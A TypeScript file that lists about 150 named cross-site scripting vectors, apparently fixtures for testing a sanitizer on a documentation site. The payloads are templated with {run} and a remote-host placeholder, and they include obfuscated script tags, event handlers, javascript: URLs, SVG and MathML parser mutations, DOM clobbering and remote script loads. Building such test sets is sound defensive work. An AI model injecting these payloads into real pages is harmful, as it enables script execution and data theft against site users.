/** Markup in the body of a page: elements that run, ask or lead away, and ways to hide them. */
import { vectors } from './vector.ts'

export const htmlVectors = vectors(
  'body',
  String.raw`
script | <script>{run}</script>
script-src | <script src="//{far}"></script>
script-upper | <SCRIPT>{run}</SCRIPT>
script-slash | <script/x>{run}</script>
script-nested | <scr<script>ipt>{run}</scr</script>ipt>
script-unclosed | <script>{run}//
script-newline | <script⏎>{run}</script⏎>
script-type | <script type="text/javascript" language="x">{run}</script>
script-module | <script type="module">import "https://{far}"</script>
script-json | <script type="application/json">{"a":1}</script><script>{run}</script>
script-in-attribute | <p title="<script>{run}</script>">a</p>
script-in-comment | <!-- <script>{run}</script> --> a
script-after-comment | <!--> <script>{run}</script> -->
script-after-dashes | <!--- --!> <script>{run}</script> -->
script-in-svg | <svg><script>{run}</script></svg>
script-in-svg-href | <svg><script href="//{far}"/></svg>
script-in-math | <math><mtext><script>{run}</script></mtext></math>
img-error | <img src="x" onerror="{run}" alt="a">
img-error-bare | <img src=x onerror={run} alt=a>
img-error-slash | <img/src="x"/onerror="{run}" alt="a">
img-error-newline | <img src="x"⏎onerror⏎=⏎"{run}" alt="a">
img-error-upper | <IMG SRC="x" ONERROR="{run}" ALT="a">
img-error-entity | <img src="x" onerror="&#95;&#95;attack&#40;1&#41;" alt="a">
img-error-backtick | <img src="x" alt="` +
    '``' +
    String.raw`onerror={run}">
img-foreign | <img src="https://{far}.png" alt="a">
img-foreign-no-scheme | <img src="//{far}.png" alt="a">
img-foreign-no-slashes | <img src="http:{far}.png" alt="a">
img-foreign-backslash | <img src="\\{far}.png" alt="a">
img-foreign-mixed-slash | <img src="/\{far}.png" alt="a">
img-foreign-tab | <img src="/&#9;/{far}.png" alt="a">
img-foreign-control | <img src="&#1;https://{far}.png" alt="a">
img-srcset | <img src="x.png" srcset="https://{far}.png 2x" alt="a">
img-lazy | <img src="x.png" loading="lazy" lowsrc="https://{far}.png" dynsrc="https://{far}" alt="a">
img-data-svg | <img src="data:image/svg+xml,<svg onload={run}>" alt="a">
img-javascript | <img src="javascript:{run}" alt="a">
image-element | <image src="x" onerror="{run}">
picture-source | <picture><source srcset="https://{far}.png"><img src="x.png" alt="a"></picture>
a-javascript | <a href="javascript:{run}">a</a>
a-javascript-mixed | <a href="JaVaScRiPt:{run}">a</a>
a-javascript-tab | <a href="java&#9;script:{run}">a</a>
a-javascript-newline | <a href="java&#10;script:{run}">a</a>
a-javascript-entity | <a href="&#106;avascript&colon;{run}">a</a>
a-javascript-space | <a href="  javascript:{run}">a</a>
a-javascript-control | <a href="&#1;javascript:{run}">a</a>
a-javascript-null | <a href="java&#0;script:{run}">a</a>
a-vbscript | <a href="vbscript:{run}">a</a>
a-data | <a href="data:text/html,<script>{run}</script>">a</a>
a-data-base64 | <a href="data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+">a</a>
a-blob | <a href="blob:https://{far}">a</a>
a-click | <a href="#" onclick="{run}">a</a>
a-ping | <a href="#x" ping="https://{far}">a</a>
a-focus | <a href="#x" tabindex="0" autofocus onfocus="{run}">a</a>
a-style | <a href="#x" style="position:fixed;inset:0;background:url(https://{far})">a</a>
a-search-open | <a class="search-open" href="https://{far}">a</a>
a-moved | <div class="moved" id="x"><a data-moved href="https://{far}">a</a></div>
a-languages | <a class="languages__link" data-same href="https://{far}">a</a>
a-anchor | <a class="anchor" href="https://{far}">a</a>
svg-load | <svg onload="{run}"></svg>
svg-use | <svg><use href="data:image/svg+xml,<svg id='x' onload='{run}'/>#x"/></svg>
svg-use-foreign | <svg><use href="https://{far}#x"/></svg>
svg-image | <svg><image href="https://{far}.png"/></svg>
svg-a-xlink | <svg><a xlink:href="javascript:{run}"><text y="20">a</text></a></svg>
svg-animate | <svg><a><animate attributeName="href" values="javascript:{run}"/><text y="20">a</text></a></svg>
svg-set | <svg><set attributeName="onmouseover" to="{run}"/></svg>
svg-animate-begin | <svg><animate onbegin="{run}" attributeName="x" dur="1s"/></svg>
svg-foreign-object | <svg><foreignObject><img src="x" onerror="{run}"></foreignObject></svg>
svg-style | <svg><style>@import "https://{far}";</style></svg>
svg-style-break | <svg><style><img src="</style><img src=x onerror={run}>"></svg>
svg-desc | <svg><desc><img src="x" onerror="{run}"></desc></svg>
svg-title | <svg><title><img src="x" onerror="{run}"></title></svg>
svg-feimage | <svg><filter id="f"><feImage href="https://{far}.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
math-href | <math><maction actiontype="statusline" href="javascript:{run}">a</maction></math>
math-xlink | <math xlink:href="javascript:{run}"><mtext>a</mtext></math>
math-mutation | <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">
math-annotation | <math><annotation-xml encoding="text/html"><img src="x" onerror="{run}"></annotation-xml></math>
form-mutation | <form><math><mtext></form><form><mglyph><style></math><img src="x" onerror="{run}">
noscript | <noscript><p title="</noscript><img src=x onerror={run}>"></noscript>
noscript-nested | <noscript><noscript><img src="x" onerror="{run}"></noscript></noscript>
textarea | <textarea><img title="</textarea><img src=x onerror={run}>"></textarea>
title | <title><img title="</title><img src=x onerror={run}>"></title>
xmp | <xmp><p title="</xmp><img src=x onerror={run}>"></xmp>
noembed | <noembed><p title="</noembed><img src=x onerror={run}>"></noembed>
plaintext | <plaintext><img src="x" onerror="{run}">
template | <template><img src="x" onerror="{run}"></template>
template-shadow | <div><template shadowrootmode="open"><img src="x" onerror="{run}"></template></div>
iframe | <iframe src="https://{far}"></iframe>
iframe-javascript | <iframe src="javascript:parent.{run}"></iframe>
iframe-srcdoc | <iframe srcdoc="<script>parent.{run}</script>"></iframe>
object | <object data="https://{far}"></object>
object-data | <object data="data:text/html,<script>{run}</script>"></object>
embed | <embed src="https://{far}">
applet | <applet code="x" codebase="https://{far}"></applet>
frameset | <frameset onload="{run}"><frame src="https://{far}"></frameset>
base | <base href="https://{far}/">
link-style | <link rel="stylesheet" href="https://{far}.css">
link-prefetch | <link rel="prefetch" href="https://{far}"><link rel="preconnect" href="https://{far}">
link-import | <link rel="modulepreload" href="https://{far}.js">
meta-refresh | <meta http-equiv="refresh" content="0;url=https://{far}">
meta-refresh-javascript | <meta http-equiv="refresh" content="0;url=javascript:{run}">
meta-policy | <meta http-equiv="Content-Security-Policy" content="default-src *"><script>{run}</script>
style | <style>body{background:url(https://{far}.png)}</style>
style-import | <style>@import url(https://{far}.css);</style>
style-attribute | <p style="background:url(https://{far}.png)">a</p>
style-expression | <p style="width:expression({run});behavior:url(https://{far})">a</p>
style-close | <style></style><img src=x onerror={run}></style>
body | <body onload="{run}" background="https://{far}.png">
html | <html onmouseover="{run}"><p>a</p></html>
table-background | <table background="https://{far}.png"><tr><td background="https://{far}.png">a</td></tr></table>
form | <form action="https://{far}"><button>a</button></form>
form-javascript | <form action="javascript:{run}"><input type="submit" value="a"></form>
form-formaction | <form><button formaction="javascript:{run}">a</button></form>
input-image | <input type="image" src="https://{far}.png" formaction="https://{far}">
input-focus | <input autofocus onfocus="{run}">
button | <button onclick="{run}" popovertarget="x">a</button>
select | <select autofocus onfocus="{run}"><option>a</option></select>
keygen | <keygen autofocus onfocus="{run}">
details-toggle | <details open ontoggle="{run}"><summary>a</summary>b</details>
summary-focus | <details><summary onfocus="{run}">a</summary>b</details>
video | <video src="https://{far}.mp4" poster="https://{far}.png" onerror="{run}"></video>
video-source | <video><source src="https://{far}.mp4" onerror="{run}"></video>
audio | <audio src="https://{far}.mp3" autoplay onerror="{run}"></audio>
track | <video><track src="https://{far}.vtt" default></video>
marquee | <marquee onstart="{run}">a</marquee>
isindex | <isindex type="image" src="x" onerror="{run}">
bgsound | <bgsound src="https://{far}">
layer | <layer src="https://{far}"></layer>
portal | <portal src="https://{far}"></portal>
popover | <p id="x" popover onbeforetoggle="{run}">a</p>
contenteditable | <p contenteditable onfocus="{run}" tabindex="0">a</p>
animation | <p style="animation:x" onanimationstart="{run}">a</p>
custom-element | <x-a onfocus="{run}" tabindex="1" autofocus>a</x-a>
search-panel | <search-panel data-index="https://{far}/"></search-panel>
theme-switch | <theme-switch><input value="x" onfocus="{run}"></theme-switch>
clobber-id | <p id="_main">a</p><a id="documentElement" name="head">b</a>
clobber-image | <img name="querySelector" src="x.png" alt="a"><img name="head" src="x.png" alt="b">
clobber-form | <form id="body" name="cookie"><input name="attributes"></form>
clobber-global | <a id="__attack">a</a><a id="customElements" href="https://{far}">b</a>
quote-break | <p title='"><script>{run}</script>'>a</p>
dangling | <img alt="a" src='https://{far}?
dangling-base | <base target='
unclosed-attribute | <p title="a><img src=x onerror={run}>
null-in-tag | <scr&#0;ipt>{run}</script>
entities | &lt;img src=x onerror={run}&gt; &#x3C;script&#x3E;{run}&#x3C;/script&#x3E;
processing | <?xml-stylesheet href="https://{far}"?><?php {run} ?>
cdata | <![CDATA[<script>{run}</script>]]>
doctype | <!DOCTYPE html [<!ENTITY x "<script>{run}</script>">]>&x;
conditional | <!--[if gte IE 4]><script>{run}</script><![endif]-->
key-of-blocks | a data-passerelle-block="b [c](#x "<img src=x onerror={run}>")
key-of-blocks-image | a data-passerelle-block=" ![<img src=x onerror={run}>](x.png)
marker-of-astro | __ASTRO_IMAGE_="&#123;&#125;" <img alt="__ASTRO_IMAGE_=" src="x.png">
data-forms | <p data-docset="a"><span data-step="x"></span><span data-forms="{run}"></span></p>
data-texts | <div class="progress" data-texts="<img src=x onerror={run}>"><button>a</button></div>
`,
)
